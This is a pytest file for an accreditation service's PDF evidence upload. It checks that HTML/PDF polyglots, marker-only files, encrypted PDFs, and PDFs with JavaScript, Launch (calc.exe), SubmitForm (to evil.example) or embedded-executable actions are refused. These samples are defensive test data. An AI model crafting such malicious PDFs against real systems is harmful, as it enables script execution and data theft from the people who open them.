"""Evidence uploads are PDFs by their structure: a file that merely holds the marker bytes,
an encrypted file, or one with active content or embedded files is refused by name."""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

import pytest
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.accreditation.fixtures import PDF, AccreditationWorld, upload_pdf


def _written(change: Callable[[PdfWriter], Any]) -> bytes:
    writer = PdfWriter()
    writer.append(io.BytesIO(PDF))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **entries: Any) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


def _open_action(kind: str, **entries: Any) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(
            _action(kind, **entries)
        )

    return change


def _page_action(kind: str, **entries: Any) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        page = writer.pages[0]
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action(kind, **entries)})

    return change


def _named_javascript(writer: PdfWriter) -> None:
    names = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): _action("/Nope")})}
    )
    writer._root_object[NameObject("/Names")] = names


HTML_POLYGLOT = (
    b"<!doctype html><html><body><script>alert(document.cookie)</script>\n"
    b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
)

REFUSED: dict[str, tuple[bytes | Callable[[], bytes], int, str]] = {
    "html with the marker bytes": (HTML_POLYGLOT, 415, "is not a PDF document"),
    "marker bytes only": (b"%PDF-1.7\nhello\n%%EOF\n", 415, "not a PDF document that opens"),
    "encrypted": (lambda: _written(lambda w: w.encrypt("secret")), 422, "encrypted"),
    "open-action javascript": (
        lambda: _written(_open_action("/JavaScript", JS="app.alert(1)")),
        422,
        "JavaScript",
    ),
    "named javascript": (lambda: _written(_named_javascript), 422, "JavaScript"),
    "launch action": (
        lambda: _written(_page_action("/Launch", F="calc.exe")),
        422,
        "launches a program",
    ),
    "submit-form action": (
        lambda: _written(_page_action("/SubmitForm", F="https://evil.example/")),
        422,
        "submits a form",
    ),
    "embedded file": (
        lambda: _written(lambda w: w.add_attachment("payload.exe", b"MZ")),
        422,
        "embedded file",
    ),
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_unsafe_or_fake_pdfs_are_refused_naming_the_field(
    accreditation: AccreditationWorld, case: str
) -> None:
    world = accreditation
    draft = world.call("POST", "/applications", "pia", {"content": {"title": "Docs"}}, 201)
    application_id = draft.get_json()["id"]
    made, status, words = REFUSED[case]
    data = made() if callable(made) else made
    response = upload_pdf(world, application_id, data, "evidence.pdf")
    assert response.status_code == status, response.get_json()
    problem = response.get_json()
    assert [error["field"] for error in problem["errors"]] == ["file"]
    assert words in problem["errors"][0]["message"]
    listed = world.call("GET", f"/applications/{application_id}", "pia").get_json()
    assert listed["documents"] == []


def test_a_real_pdf_is_accepted(accreditation: AccreditationWorld) -> None:
    world = accreditation
    draft = world.call("POST", "/applications", "pia", {"content": {"title": "Docs"}}, 201)
    application_id = draft.get_json()["id"]
    linked = _written(lambda w: w.add_metadata({"/Title": "Handbook"}))
    assert upload_pdf(world, application_id, linked, "handbook.pdf").status_code == 201
